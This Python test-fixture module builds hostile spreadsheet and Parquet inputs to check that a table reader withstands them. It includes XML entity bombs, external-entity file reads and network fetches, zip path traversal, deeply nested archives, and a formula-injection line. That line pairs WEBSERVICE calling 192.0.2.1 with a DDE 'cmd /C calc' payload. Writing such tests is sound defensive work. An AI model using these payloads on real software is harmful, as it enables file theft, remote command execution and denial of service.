"""Hostile workbooks and Parquet files by name: what a table's file unpacks to, leads to, or claims to be."""

from __future__ import annotations

import io
import re
import tempfile
from collections.abc import Callable, Mapping
from pathlib import Path

import xlsxwriter
from hostile_cases import Case, Content
from hostile_decks import laughing, unzipped, zipped
from hostile_tables import brief, slide

SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
SHOWN = slide("bar: seen")
OLD = Path(__file__).parent / "tables" / "returns.xls"
ODS = 'xmlns:{0}="urn:oasis:names:tc:opendocument:xmlns:{0}:1.0"'
SPACES = " ".join(map(ODS.format, ("office", "table", "text")))


def booked(content: Content, *says: str, code: int = 2, file: str = "t.xlsx", mib: float = 256.0) -> Case:
    """Return a brief that reads a table from this file."""
    return Case(brief(SHOWN, file=file), says, code, files={file: content}, mib=mib)


def book() -> bytes:
    """Return a workbook with two rows."""
    made = xlsxwriter.Workbook(data := io.BytesIO(), {"in_memory": True})
    sheet = made.add_worksheet()
    for number, row in enumerate((("site", "month", "seen"), ("A", "2025-10", 1), ("B", "2025-10", 2))):
        sheet.write_row(number, 0, row)
    made.close()
    return data.getvalue()


def changed(name: str, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """Return what makes a workbook of which a part is otherwise."""

    def made() -> bytes:
        parts = unzipped(book())
        return zipped(parts | {name: change(parts[name])})

    return made


def put(parts: Mapping[str, bytes]) -> Callable[[], bytes]:
    """Return what makes a workbook with further parts, or others in their places."""
    return lambda: zipped(unzipped(book()) | parts)


def rows(more: bytes) -> Callable[[], bytes]:
    """Return what makes a workbook whose sheet has further rows."""
    return changed(SHEET, lambda sheet: sheet.replace(b"</sheetData>", more + b"</sheetData>"))


def with_entity(kind: str) -> Callable[[bytes], bytes]:
    """Return what puts entities before a part, and one of them into it."""
    doctype = re.search(rb"<!DOCTYPE p \[.*\]>", laughing(kind))
    assert doctype
    return lambda part: (
        doctype[0].replace(b"DOCTYPE p", b"DOCTYPE sst")
        + part.partition(b"?>")[2].replace(b"<t>A</t>", b"<t>&l9;</t>")
    )


def cut(share: float) -> Callable[[], bytes]:
    """Return what makes a share of a workbook."""
    return lambda: book()[: int(len(book()) * share)]


def nested() -> bytes:
    """Return a workbook with a workbook with a workbook in it, twenty deep."""
    data = book()
    for _ in range(20):
        data = zipped(unzipped(book()) | {"xl/embeddings/book.xlsx": data})
    return data


def locked() -> bytes:
    """Return a workbook whose parts are said to be encrypted."""
    data = bytearray(book())
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            data[start + at] |= 1
            start += 4
    return bytes(data)


def document(body: str, head: str = "") -> bytes:
    """Return an OpenDocument spreadsheet with one table."""
    text = (
        f"{head}<office:document-content {SPACES}><office:body><office:spreadsheet><table:table>{body}"
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": text.encode()}
    )


def repeated(word: str, count: int) -> str:
    """Return a row, or a cell, that is repeated so often."""
    cell = '<table:table-cell office:value-type="string"{}><text:p>x</text:p></table:table-cell>'
    told = f' table:number-{word}-repeated="{count}"'
    row = cell.format(told if word == "columns" else "")
    return f"<table:table-row{told if word == 'rows' else ''}>{row}</table:table-row>"


def parquet(sql: str, *, more: str = "") -> Callable[[], bytes]:
    """Return what makes a Parquet file of a query's rows."""

    def made() -> bytes:
        import duckdb

        with tempfile.TemporaryDirectory() as folder:
            duckdb.connect().execute(f"copy ({sql}) to '{folder}/t.parquet' (format parquet{more})")
            return (Path(folder) / "t.parquet").read_bytes()

    return made


SOUND = "select 'A' as site, '2025-10' as month, 1 as seen"


def spoiled(at: float, new: bytes) -> Callable[[], bytes]:
    """Return what makes a Parquet file with other bytes at a share of it, or so far from its end."""

    def made() -> bytes:
        data = bytearray(parquet(SOUND)())
        start = int(at) if at < 0 else int(len(data) * at)
        data[start : start + len(new) if start + len(new) else None] = new
        return bytes(data)

    return made


FORMULA = b'<row r="4"><c r="A4" t="str"><f>WEBSERVICE("http://192.0.2.1")&amp;cmd|\'/C calc\'!A0</f>'
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
LINK = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId9"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
 Target="http://192.0.2.1/a.xlsx" TargetMode="External"/></Relationships>"""
WORKBOOKS = {
    "a sound workbook": booked(book, code=0),
    "a sheet of 400 MB": booked(put({SHEET: bytes(400 << 20)}), "t.xlsx"),
    "texts of 400 MB": booked(put({STRINGS: b" " * (400 << 20)}), "t.xlsx"),
    "a sheet of 3 million rows": booked(
        lambda: zipped(unzipped(book()) | {SHEET: b"<worksheet><sheetData>" + b"<row/>" * 3_000_000}),
        "t.xlsx",
        mib=400.0,
    ),
    "a workbook that says it has 17 thousand million cells": booked(
        changed(SHEET, lambda part: re.sub(rb'ref="[^"]*"', b'ref="A1:XFD1048576"', part, count=1)), code=0
    ),
    "a cell at the far end of a sheet": booked(rows(FAR), "t.xlsx"),
    "a workbook of entities that unpack to gigabytes": booked(
        changed(STRINGS, with_entity("laughs")), "t.xlsx"
    ),
    "a workbook with an entity that reads a file": booked(changed(STRINGS, with_entity("file")), "t.xlsx"),
    "a workbook with an entity from the net": booked(changed(STRINGS, with_entity("net")), "t.xlsx"),
    "a workbook with a parameter entity": booked(changed(BOOK, with_entity("parameter")), code=0),
    "a workbook with a link to another machine": booked(
        put({"xl/externalLinks/_rels/externalLink1.xml.rels": LINK}), code=0
    ),
    "a workbook with formulas that ask and run": booked(
        rows(FORMULA + b'<v>C</v></c><c r="B4" t="str"><v>2025-10</v></c><c r="C4"><f>1+1</f></c></row>'),
        "t.xlsx",
    ),
    "a workbook with macros": booked(put({"xl/vbaProject.bin": b"x" * 100}), code=0),
    "a workbook within a workbook, 20 deep": booked(nested, code=0),
    "a workbook cut in half": booked(cut(0.5), "t.xlsx"),
    "a workbook cut at its end": booked(cut(0.97), "t.xlsx"),
    "a workbook that is locked": booked(locked, "t.xlsx"),
    "a workbook without a sheet": booked(
        lambda: zipped({name: part for name, part in unzipped(book()).items() if name != SHEET}), "t.xlsx"
    ),
    "a workbook of 20,000 parts": booked(
        lambda: zipped(unzipped(book()) | {f"x/{number}": b"" for number in range(20_000)}), code=0
    ),
    "a workbook whose parts climb": booked(put({"../../climbed": b"x", "/tmp/climbed": b"x"}), code=0),
    "a number of 400 digits in a workbook": booked(
        rows(
            b'<row r="4"><c r="A4" t="str"><v>C</v></c><c r="B4" t="str"><v>2025-10</v></c><c r="C4"><v>'
            + b"9" * 400
            + b"</v></c></row>"
        ),
        "t.xlsx",
    ),
    "a date of the year 99999 in a workbook": booked(
        rows(
            b'<row r="4"><c r="A4" t="str"><v>C</v></c><c r="B4"><v>99999999999</v></c><c r="C4"><v>1</v></c>'
            b"</row>"
        ),
        "t.xlsx",
    ),
    "a workbook of 70 MB": booked(lambda: book() + bytes(70 << 20), "larger than"),
    "an old workbook cut in half": booked(lambda: OLD.read_bytes()[:4_000], "t.xls", file="t.xls"),
    "an old workbook whose sectors lead in a circle": booked(
        lambda: OLD.read_bytes()[:512] + b"\x01\0\0\0" * 128 + OLD.read_bytes()[1024:], "t.xls", file="t.xls"
    ),
    "an old workbook of a header alone": booked(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "t.xls", file="t.xls"),
    "a document of a thousand million rows": booked(
        lambda: document(repeated("rows", 10**9)), "t.ods", file="t.ods"
    ),
    "a document of a thousand million columns": booked(
        lambda: document(repeated("columns", 10**9)), "t.ods", file="t.ods"
    ),
    "a document with a negative count of rows": booked(
        lambda: document(repeated("rows", -5)), "t.ods", file="t.ods"
    ),
    "a document of entities that unpack to gigabytes": booked(
        lambda: document("", with_entity("laughs")(b"").decode()), "t.ods", file="t.ods"
    ),
    "a document 100,000 deep": booked(lambda: document("<a>" * 100_000), "t.ods", file="t.ods"),
    "a document of 400 MB": booked(lambda: zipped({"content.xml": bytes(400 << 20)}), "t.ods", file="t.ods"),
    "a document that is a picture": booked(b"\x89PNG\r\n\x1a\n" + bytes(90), "t.ods", file="t.ods"),
}


def columnar(content: Content, *says: str, code: int = 2, mib: float = 256.0) -> Case:
    """Return a brief that reads a table from this Parquet file."""
    return booked(content, *says, code=code, file="t.parquet", mib=mib)


PARQUET = {
    "a sound Parquet file": columnar(parquet(SOUND), code=0),
    "a Parquet file cut in half": columnar(lambda: parquet(SOUND)()[:200], "t.parquet"),
    "a Parquet file of four letters": columnar(b"PAR1", "t.parquet"),
    "a Parquet file whose foot is endless": columnar(spoiled(-8, b"\xff\xff\xff\x7f"), "t.parquet"),
    "a Parquet file whose foot is nothing": columnar(spoiled(-8, b"\0\0\0\0"), "t.parquet"),
    "a Parquet file with other pages": columnar(spoiled(0.02, b"\xff" * 40), "t.parquet"),
    "a Parquet file with another foot": columnar(spoiled(0.6, b"\xff" * 20), "t.parquet"),
    "a Parquet file of texts": columnar(b"site,month,seen\nA,2025-10,1\n", "t.parquet"),
    "a Parquet file of 12 million rows": columnar(
        parquet("select 'A' as site, '2025-10' as month, 1 as seen from range(12000000)"),
        "at most 10,000,000",
    ),
    "a Parquet file of one text a thousand times": columnar(
        parquet("select repeat('x', 2000000) as site, '2025-10' as month, 1 as seen from range(400)"),
        "t.parquet",
        mib=1100.0,
    ),
    "a Parquet file in one row group of 3 million": columnar(
        parquet(
            "select 'S' || range as site, '2025-10' as month, 1 as seen from range(3000000)",
            more=", row_group_size 3000000",
        ),
        "t.parquet",
        mib=1100.0,
    ),
    "a Parquet file of lists of lists": columnar(
        parquet("select [[['A']]] as site, '2025-10' as month, 1 as seen"), "t.parquet"
    ),
    "a Parquet file of structs": columnar(
        parquet("select {'a': {'b': 'A'}} as site, '2025-10' as month, {'n': 1} as seen"), "t.parquet"
    ),
    "a Parquet file of maps": columnar(
        parquet("select 'A' as site, '2025-10' as month, map(['k'], [1]) as seen"), "t.parquet"
    ),
    "a Parquet file of 5,000 columns": columnar(
        parquet(SOUND + "".join(f", {number} as c{number}" for number in range(5_000))), code=0
    ),
    "a Parquet file of infinities": columnar(
        parquet("select 'A' as site, '2025-10' as month, 'inf'::double as seen"), "t.parquet"
    ),
    "a Parquet file of a number with 38 digits": columnar(
        parquet("select 'A' as site, '2025-10' as month, 99999999999999999999999999999999999999 as seen"),
        "t.parquet",
    ),
    "a Parquet file of dates before time": columnar(
        parquet("select 'A' as site, '290307-12-10 (BC) 00:00:00'::timestamp as month, 1 as seen"),
        "t.parquet",
    ),
}
